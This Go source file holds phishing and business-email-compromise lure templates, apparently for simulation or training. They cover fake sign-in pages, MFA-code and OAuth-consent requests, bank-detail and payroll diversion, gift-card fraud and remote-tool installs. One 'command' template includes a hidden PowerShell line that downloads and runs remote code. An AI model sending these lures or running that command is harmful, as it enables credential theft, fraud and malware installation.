package scenario

// luresEN are what intruders write from a real colleague's or supplier's mailbox, in English. The patterns follow
// published cases: hijacked threads with a link or an archive (Emotet, Qakbot, IcedID), shared documents and
// signatures in front of a sign-in page (Storm-0539, Storm-1167), device codes (Storm-2372), consent to an app
// (Proofpoint, 2024), callback numbers (BazarCall), pasted commands (ClickFix), foreign remote-support servers at
// clients of providers, payment diversion (FBI IC3, Business E-Mail Compromise), codes in pictures.
var luresEN = []script{
	{kind: "thread-link", reply: true, path: "/d/{tok}/{ref}", body: `[I put the file you asked about here, it was too big to attach|As promised, here is the updated version|Sorry for the delay. I have put everything together here]: {link}

[Let me know whether it opens for you.|Please look at page 3 before we talk.|It is only available until {weekday}.]`},
	{kind: "thread-link", reply: true, path: "/f/{tok}", body: `[One more thing on this|Coming back to this]. We [noticed|found] a [difference|mistake] in what we sent you, the corrected [list|sheet] is [here|under this link]: {link:{ref}.xlsx}

Could you [check your part and answer today|go through it and tell me what is missing]?`},
	{kind: "thread-link", reply: true, path: "/view?id={tok}", body: `Please see {link:the document} [regarding the below|for the points below].`},
	{kind: "shared-document", path: "/s/{tok}", subject: "{from} shared \"{project} {month}\" with you", body: `I have shared [a document|a folder] with you: {link:{project} {month}.pdf}

[It contains the figures for the review. You will be asked to sign in with your work account, that is normal as the file is protected.|Access is limited to {toMail}, please use that address to open it.]`},
	{kind: "shared-document", path: "/doc/{tok}?e={toMail}", subject: "[Proposal|Statement of work|Agreement] {ref}", body: `[please find our proposal for {project} under the link below|I have uploaded the statement of work to our document space]. [Your comments until {weekday} would help a lot.|We need your feedback before the call on {weekday}.]

{link:Open {ref}}

[Any trouble with access, just write to me.|The document is protected, sign in with your usual mail address.]`},
	{kind: "credential-page", path: "/auth/{tok}", subject: "[Change of|Migration of] your {system} access", body: `[we are moving {system} to the new platform tonight|on {weekday} we switch {system} over to the new sign-in]. So that your account is taken along you have to sign in once on the new page: {link}

[Accounts that were not confirmed by then stay on the old system and will not work tomorrow.|It takes less than a minute. Use the same name and password as in the morning.]`},
	{kind: "credential-page", reply: true, path: "/login?user={toMail}", body: `[we looked into this and it comes from your session. Please sign in here once so that we can see what you see|I can reproduce it only with your account. Could you log on through this page, then the token is renewed]: {link}`},
	{kind: "mailbox-quota", path: "/q/{tok}", subject: "Your mailbox {toMail} is at 98 %", from: "desk", body: `your mailbox has [reached|almost reached] its limit (49.2 GB of 50 GB). [From {time} on new messages will be returned to their senders.|Twelve messages are already waiting on the server.]

Additional space can be assigned free of charge, please confirm here: {link:Add 25 GB}

{partner} Service Desk`},
	{kind: "mailbox-quota", reply: true, path: "/release/{tok}", body: `[the reason is that your mailbox is full, my last two mails came back|two of my mails to you are stuck in the filter]. You can release the space yourself: {link}`},
	{kind: "mfa-push", subject: "Test of your second factor [at {time}|today]", body: `[we are changing the provider for the second factor and go through the users one by one|we had to reset the second factor for some accounts last night, yours is among them]. You will get a request on your phone [in the next minutes|around {time}]; please approve it [straight away|, also if it comes twice], otherwise we have to start over.

[If it asks for a number, enter {num}.|Just tap Approve, nothing else to do.]`},
	{kind: "mfa-push", reply: true, body: `I am on your machine's account now to finish this. You'll get a code by text message in a moment, [could you send it back to me here|please answer with the six digits]? [It is valid for five minutes only.|Sorry for the trouble.]`},
	{kind: "mfa-push", path: "/mfa/{tok}", subject: "Your authenticator registration ends on {weekday}", body: `[your registration for the second factor was made on the old server, which is switched off on {weekday}|as part of the yearly review all authenticator registrations are renewed]. Please register your phone again here: {link}`},
	{kind: "oauth-consent", path: "/oauth2/authorize?client_id={tok}&scope=Mail.Read+offline_access&response_type=code", subject: "[Connector for|New assistant in] {system}", body: `[we have added a small connector so that tickets reach you directly in your calendar|the reporting add-in you know from the other sites is now ready for {client}]. Please open {link:this page} and press Accept once; [it needs to read your mail and calendar to work|the permissions shown are the standard ones].

[No password is needed.|Only people who accepted get the reports next week.]`},
	{kind: "oauth-consent", reply: true, path: "/consent?app={tok}&prompt=consent", body: `[to continue we need the app to be allowed for your mailbox|the integration is stuck because your consent is missing]. Could you grant it here: {link} and choose "on behalf of your organisation"?`},
	{kind: "device-code", path: "/device", subject: "Joining the [call|review] on {weekday}", body: `[the meeting runs in our new room system, it joins by a code instead of a link|for the review we use the guest tenant]. Before we start please go to {link} and enter

    {code}

then sign in with your {client} account. [The code is good for 15 minutes.|Do it just before {time}, it expires quickly.]`},
	{kind: "device-code", reply: true, path: "/devicelogin", body: `[I set up the device on our side, it only has to be linked to you|the machine asks for your approval]. Open {link}, type {code} and confirm with your account, I'm waiting on the other end.`},
	{kind: "callback", subject: "Renewal of your {system} licences, order {ref}", from: "finance", body: `[thank you for the renewal|your order was received]. {amount} for 24 months of {system} will be debited [on {weekday}|within 48 hours].

[If you did not place this order, or want to change the number of seats, please call our billing line at {phone} before then.|Questions or cancellation only by phone: {phone}, daily until 20:00. Mail to this address is not read.]`},
	{kind: "callback", reply: true, body: `[I can't explain this by mail. Please call me on my new number {phone}, best in the next half hour.|our security team needs to speak to you about this, they are at {phone}. Have your computer in front of you, please.]`},
	{kind: "bank-change", from: "finance", subject: "[Change of our bank details|New account for payments to {partner}]", body: `[as part of an audit our account at {oldbank} is closed for incoming payments|we have moved our business to {bank}]. Please [change the details in your system|use the following account] for all open and future invoices:

Account holder: {partner}
IBAN: {iban}
Bank: {bank}

[Kindly confirm when it is done, and let us know the date of the next payment run.|Payments to the old account will be returned. Please confirm by mail, our phones are being moved this week.]`},
	{kind: "bank-change", reply: true, from: "finance", body: `[before you release this: our account has changed.|please stop the payment if it is not gone yet, the account on it is no longer ours.] The right one is {iban} ({bank}). [A new copy of the invoice follows.|Can you tell me when it goes out?]`},
	{kind: "invoice-redirect", from: "finance", file: "pdf-iban", subject: "Corrected invoice {ref}", body: `[please find attached the corrected version of {ref}; the earlier one carried an outdated payment address|attached is {ref} again, our system printed the wrong account on the first copy]. Please book this one only[.| and discard the other.]

[As it is overdue by now we would be glad about a payment this week.|Our treasury asks for a same-day transfer if possible.]`},
	{kind: "invoice-redirect", reply: true, from: "finance", file: "pdf-iban", body: `[our accountant was quicker than I was: the attached copy replaces the first one, only the last page is different|I attach it again with the details of our factoring partner, please pay to them]. When can we expect it?`},
	{kind: "payroll-change", subject: "My salary account", toRole: "hr", body: `I [recently changed banks|opened a new account] and would like my [expenses and pay|next payment] to go there. Can the change be made before [the run this month|the {date}]?

{iban}, {bank}

[I can't reach the portal at the moment, so I'd be thankful if you did it for me.|What do you need from me to make it effective at once?]`},
	{kind: "payroll-change", reply: true, toRole: "hr", path: "/hr/{tok}", body: `[the people you have lent to us have to confirm their bank data for this month's run|payroll has found a wrong account for two of your people]. Please check the list here and enter the right numbers: {link}`},
	{kind: "gift-card", from: "manager", subject: "[Quick favour|Are you at your desk?]", body: `[are you free for a moment? I'm in a meeting and can't take calls|I need your help with something small, but please keep it to yourself for now]. [We want to surprise the team on the project with vouchers|I promised a customer some vouchers for today]: five cards of 100 each, [Apple or Amazon|any big shop will do]. Could you get them [at lunch|now], scratch the back and send me photos of the codes? [I'll refund you this evening.|Put it on the project, I'll sign it.]`},
	{kind: "gift-card", reply: true, from: "manager", body: `something else, while I have you: could you buy [four|six] voucher cards (100 each) for our joint event and mail me the codes? [I'm stuck at the airport and the shop here won't take my card.|I'll settle it with your accounts on {weekday}.]`},
	{kind: "remote-tool", path: "/Bin/Support.Client.exe?h={tok}&i={client}", subject: "Update of the support agent on {device}", body: `[the agent on {device} has stopped reporting|our monitoring lost {device} this morning]. Please [download and run|start] the current version: {link:Support client}

[Windows shows a warning because the certificate is new; choose More info and Run anyway.|It installs by itself, I'll take over from there.]`},
	{kind: "remote-tool", reply: true, path: "/download/{tok}.msi", body: `[easiest if I look at it myself. Please start this, then I'm on your screen|our usual tool is down today, so we use another one]: {link}

[Read me the number it shows.|Click Allow when it asks.]`},
	{kind: "qr-code", file: "qr", path: "/v/{tok}", subject: "[Renewal of your access card|Your sign-in certificate ends]", body: `[the certificate on your phone runs out on {weekday}|the new version of the authenticator has to be paired with your account]. Please scan the code below with your phone['s camera|] and follow the steps. [It works only from the phone, not from the computer.|Takes two minutes.]`},
	{kind: "qr-code", file: "qr-pdf", path: "/w/{tok}", subject: "[Updated benefits|Revised site rules] {month}", toRole: "hr", body: `[attached is the revised document for everybody who works with us on site|please find the updated rules attached]. To acknowledge, scan the code on the page with your phone.`},
	{kind: "html-form", file: "html-form", subject: "[Remittance advice|Settlement] {ref}", from: "finance", body: `[your copy of the settlement is attached|please find the remittance advice attached]. [Open it in your browser and enter your mail password to unlock it.|For data protection it opens after you sign in.]`},
	{kind: "html-form", reply: true, file: "html-form", body: `[here is the message again as a file, as the link expired|attached as a protected page]. [Save it, open it, and use your mail password.|It asks for your sign-in first.]`},
	{kind: "encrypted-zip", reply: true, file: "zip-script", body: `[please see the attached file and tell me what you think|the requested documents are attached]. [Password: {pw}|The archive is protected, the password is {pw}]`},
	{kind: "encrypted-zip", file: "zip-script", subject: "[Complaint|Claim] {ref}", body: `[attached you find our complaint with photos|we have received a claim that concerns you, see the attachment]. The file is packed because of its size, password {pw}. [Please answer by {weekday}.|We expect a statement from you.]`},
	{kind: "meeting-invite", file: "ics-link", path: "/j/{tok}", subject: "[Security review|Contract review] {client} / {partner}", body: `[please accept the invitation|I have set up a call]. Join at {link}; [sign in with your work account, guests are not let in this time|the agenda is behind the link].`},
	{kind: "meeting-invite", file: "ics-link", path: "/meet/{tok}?u={toMail}", subject: "Moved: [weekly|review] {project}", body: `[the room changed, please use the link in this invitation instead of the old one|we moved to another conference system]. {link:Join the meeting}`},
	{kind: "e-signature", path: "/sign/{tok}", subject: "[Please sign|Signature needed]: {project} amendment {ref}", body: `[the amendment is ready for your signature|only your signature is missing on the amendment]. {link:Review and sign}

[The envelope closes on {weekday}.|It was signed on our side this morning.] [Sign in with {toMail} to prove who you are.|]`},
	{kind: "e-signature", reply: true, path: "/envelope/{tok}", body: `[legal wants it signed electronically. Please do it here|to close this we need your signature under]: {link} [Thanks.|I need it back by {time}.]`},
	{kind: "command", subject: "Fix for the [VPN|certificate] problem on your PC", body: `[after last night's update some PCs don't connect. Yours is on the list.|the check shows that your PC has an old certificate.] The fix is quick:

1. press the Windows key and R
2. paste this line and press Enter
   powershell -w hidden -c "iwr https://{foehost}/{tok} | iex"
3. wait for the window to close

[Don't worry about the message that appears.|Tell me when you are through.]`},
	{kind: "command", reply: true, path: "/check/{tok}", body: `[please open this page and follow the three steps, it copies the command for you, you only have to paste it into the Run window|the page below verifies your PC; when it says so press Windows+R, then Ctrl+V and Enter]: {link}`},
	{kind: "mass-mailing", mass: true, path: "/m/{tok}", subject: "[Important information for all customers|Updated terms of service {month}]", body: `[we have updated our terms and the list of contacts for all customers|as announced there are changes to our services from next month]. [Please read and confirm them|Every customer has to confirm once] here: {link}

[Without your confirmation we can't guarantee uninterrupted service.|The page is open until {weekday}.]`},
	{kind: "mass-mailing", mass: true, path: "/notice/{tok}", subject: "Secure message from {partner}", body: `you have received a [secure|confidential] message from {partner}. {link:Read the message}

[For your protection it is kept on our server for seven days.|Sign in with your mail address to read it.]`},
	{kind: "supplier-portal", path: "/register/{tok}", subject: "[New supplier portal|Our invoices move to a portal]", from: "finance", body: `[from this month our invoices are only available in the new portal|we have changed to another portal for orders and invoices]. Please [register|log in] with your [company mail address and its password|Microsoft account]: {link:Register {client}}

[Invoices that are not collected within five days count as accepted.|Your account number is {ref}.]`},
	{kind: "supplier-portal", reply: true, from: "finance", path: "/portal/{tok}", body: `[you will find this in the new portal, together with the open items|the copy you want is in our new portal]: {link} [Your mail address is your user name.|]`},
	{kind: "voicemail", path: "/vm/{tok}", from: "desk", subject: "New voice message for {to}, {num} seconds", body: `you have a new voice message from {colleague}, {num} seconds, received today at {time}.

{link:Play message}

[The recording is deleted after 48 hours.|]`},
	{kind: "secure-message", path: "/secure/{tok}", subject: "[Confidential|Encrypted message]: {project}", body: `[because of its content I send this through our secure mailbox|our lawyers want this to go by secure mail]. {link:Read the encrypted message} [The first time you have to sign in with the password of your mailbox.|]`},
}
